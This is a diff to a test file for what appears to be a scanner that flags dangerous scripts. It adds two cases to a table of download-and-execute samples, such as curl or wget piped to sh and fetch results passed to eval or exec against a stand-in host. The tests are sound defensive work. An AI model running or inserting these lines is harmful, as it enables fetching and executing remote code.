@@ -73,6 +73,8 @@ describe('what is dangerous in a script', () => {
     ['a.js', "require('child_process').execSync('curl https://x.example/a | sh')", DOWNLOADS],
     ['a.mjs', "spawnSync('sh', ['-c', 'wget -qO- https://x.example/a | sh'])", DOWNLOADS],
     ['a.ts', 'eval(await (await fetch(url)).text())', DOWNLOADS],
+    ['a.js', 'fetch(url).then((got) => got.text()).then(eval)', DOWNLOADS],
+    ['a.js', 'fetch(url).then((r) => r.then.call(eval(r)))', DOWNLOADS],
     ['a.py', 'exec(requests.get("https://x.example/a").text)', DOWNLOADS],
     ['a.py', 'subprocess.run("curl https://x.example/a | bash", shell=True)', DOWNLOADS],
     ['tool', '#!/usr/bin/env python3\nexec(urlopen("https://x.example/a").read())', DOWNLOADS],
